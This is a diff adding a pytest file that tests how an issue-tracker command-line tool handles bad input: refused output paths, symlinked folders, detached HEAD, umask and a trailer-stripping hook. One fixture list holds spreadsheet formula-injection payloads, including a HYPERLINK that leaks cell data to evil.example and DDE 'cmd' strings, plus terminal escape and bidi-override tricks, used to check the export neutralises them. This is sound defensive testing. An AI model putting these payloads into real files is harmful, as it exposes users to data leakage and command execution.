@@ -1,0 +1,216 @@
+"""Issue 15, cases 8 to 13: each ends in a clear refusal or a correct result, exit 0/1/2 (never 70),
+no traceback, nothing lost. Each case counts in the bad-input figure."""
+
+from __future__ import annotations
+
+import csv
+import io
+import os
+import stat
+import subprocess
+from pathlib import Path
+
+import pytest
+
+from tests.reliability.figures import tally
+from tests.support import T0, Repo, executable, git
+
+
+def _clean(result_output: str, code: int) -> bool:
+    return "Traceback" not in result_output and code in (0, 1, 2)
+
+
+# -- 8: output paths ------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("command", "target", "code", "words"),
+    [
+        ("report", "a-file", 2, "is a file: give a folder"),
+        ("report", "/dev/null", 2, "not a folder"),
+        ("report", "/proc/escmatrix/none", 1, "cannot make the folder"),
+        ("schema", "a-file", 2, "is a file: give a folder"),
+        ("schema", "/dev/null", 2, "not a folder"),
+    ],
+)
+def test_output_paths_are_refused_in_one_sentence(
+    tmp_repo: Repo, command: str, target: str, code: int, words: str, request: pytest.FixtureRequest
+) -> None:
+    existing = tmp_repo.path / "a-file"
+    existing.write_text("keep me\n", encoding="utf-8")
+    out = str(existing) if target == "a-file" else target
+    args = (
+        ["report", "--format", "html", "--out", out]
+        if command == "report"
+        else ["schema", "--out", out]
+    )
+    result = tmp_repo.cli(*args)
+    ok = (
+        result.exit_code == code
+        and words in result.output
+        and _clean(result.output, result.exit_code)
+        and existing.read_text(encoding="utf-8") == "keep me\n"
+    )
+    tally(request, "bad input", f"out-path:{command}:{target}", ok)
+    assert ok, result.output
+
+
+def test_report_into_a_new_folder_still_works(tmp_repo: Repo) -> None:
+    tmp_repo.open()
+    result = tmp_repo.cli("report", "--format", "html", "--out", str(tmp_repo.path / "site" / "q4"))
+    assert result.exit_code == 0, result.output
+    assert (tmp_repo.path / "site" / "q4" / "index.html").is_file()
+
+
+# -- 9: exports carry no control characters or formulas ----------------------------------------------
+
+HOSTILE_TITLES = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3",
+    "esc \x1b[31mred\x1b[0m",
+    "osc8 \x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
+    "bidi abc\u202edcba",
+]
+
+
+def test_csv_export_neutralises_formulas_and_controls(
+    tmp_repo: Repo, request: pytest.FixtureRequest
+) -> None:
+    for title in HOSTILE_TITLES:
+        tmp_repo.open(title)
+    result = subprocess.run(
+        [*executable(), "--repo", str(tmp_repo.path), "--now", T0, "list", "--format", "csv"],
+        capture_output=True,
+        text=True,
+        check=False,
+    )
+    assert result.returncode == 0, result.stderr
+    rows = list(csv.DictReader(io.StringIO(result.stdout)))
+    titles = [r["title"] for r in rows]
+    ok = len(titles) == len(HOSTILE_TITLES)
+    for title in titles:
+        ok = ok and not any(ch in title for ch in ("\x1b", "\u202e", "\x07"))
+        ok = ok and not title.startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert any(t.startswith("'=HYPERLINK") for t in titles), titles
+    assert any("red" in t and "\\x1b" in t for t in titles), titles
+    tally(request, "bad input", "csv-export", ok)
+    assert ok, titles
+
+
+def test_html_report_drops_bidi_overrides(tmp_repo: Repo, request: pytest.FixtureRequest) -> None:
+    tmp_repo.open("bidi abc\u202edcba \u2066isolate\u2069")
+    result = tmp_repo.cli("report", "--format", "html", "--out", str(tmp_repo.path / "site"))
+    assert result.exit_code == 0, result.output
+    page = (tmp_repo.path / "site" / "index.html").read_text(encoding="utf-8")
+    ok = not any(ch in page for ch in ("\u202e", "\u2066", "\u2069"))
+    tally(request, "bad input", "html-bidi", ok)
+    assert ok
+
+
+# -- 10: a symlinked issue folder --------------------------------------------------------------------
+
+
+def test_symlinked_issue_folder_is_refused_by_validate(
+    tmp_repo: Repo, tmp_path: Path, request: pytest.FixtureRequest
+) -> None:
+    issue = tmp_repo.open()
+    elsewhere = tmp_path / "outside"
+    (tmp_repo.path / "issues" / issue).rename(elsewhere)
+    (tmp_repo.path / "issues" / issue).symlink_to(elsewhere, target_is_directory=True)
+    result = tmp_repo.cli("validate")
+    ok = (
+        result.exit_code == 1
+        and f"issues/{issue}" in result.output
+        and "symbolic link" in result.output
+        and _clean(result.output, result.exit_code)
+    )
+    tally(request, "bad input", "symlinked-issue-folder", ok)
+    assert ok, result.output
+
+
+# -- 11: detached HEAD ---------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("command", ["comment", "sweep"])
+def test_recording_on_a_detached_head_is_refused(
+    tmp_repo: Repo, command: str, request: pytest.FixtureRequest
+) -> None:
+    issue = tmp_repo.open("Checkout fails", "product-defect", "sev1")
+    tmp_repo.git("checkout", "-q", "--detach", "HEAD")
+    before, files = tmp_repo.head(), sorted(tmp_repo.all_issue_paths())
+    if command == "comment":
+        result = tmp_repo.cli("comment", issue, "on a detached head")
+    else:
+        result = tmp_repo.cli("sweep", "--apply", now="2026-03-03T09:00:00Z")
+    ok = (
+        result.exit_code == 1
+        and "HEAD is detached" in result.output
+        and "git switch" in result.output
+        and _clean(result.output, result.exit_code)
+        and tmp_repo.head() == before
+        and sorted(tmp_repo.all_issue_paths()) == files
+        and tmp_repo.status() == ""
+    )
+    tally(request, "bad input", f"detached-head:{command}", ok)
+    assert ok, result.output
+
+
+# -- 12: the umask ---------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("umask", [0o002, 0o022, 0o077])
+def test_new_event_files_follow_the_umask(tmp_repo: Repo, umask: int) -> None:
+    def set_umask() -> None:
+        os.umask(umask)
+
+    done = subprocess.run(
+        [
+            *executable(),
+            "--repo",
+            str(tmp_repo.path),
+            "--now",
+            T0,
+            "open",
+            "-t",
+            "shared clone",
+            "-c",
+            "product-defect",
+            "-s",
+            "sev3",
+        ],
+        capture_output=True,
+        text=True,
+        preexec_fn=set_umask,
+        check=False,
+    )
+    assert done.returncode == 0, done.stderr
+    (event,) = (tmp_repo.path / "issues").glob("*/*-opened.yaml")
+    assert stat.S_IMODE(event.stat().st_mode) == 0o666 & ~umask
+
+
+# -- 13: a commit-msg hook that drops trailers ------------------------------------------------------------
+
+
+def test_log_survives_a_hook_that_drops_trailers(
+    tmp_repo: Repo, request: pytest.FixtureRequest
+) -> None:
+    issue = tmp_repo.open()
+    hook = tmp_repo.path / ".git" / "hooks" / "commit-msg"
+    hook.write_text('#!/bin/sh\nhead -n 1 "$1" > "$1.tmp" && mv "$1.tmp" "$1"\n', encoding="utf-8")
+    hook.chmod(0o755)
+    tmp_repo.ok("comment", issue, "after the hook")
+    assert "Escmatrix-Action" not in git(tmp_repo.path, "log", "-1", "--format=%B")
+    result = tmp_repo.cli("log", issue)
+    data = tmp_repo.json("log", issue)
+    last = data[-1]
+    ok = (
+        result.exit_code == 0
+        and last["action"] == "commented"
+        and last["actor"] == "alex"
+        and "no escmatrix trailers" in last["note"]
+        and "no escmatrix trailers" in result.output
+    )
+    tally(request, "bad input", "trailers-dropped", ok)
+    assert ok, result.output
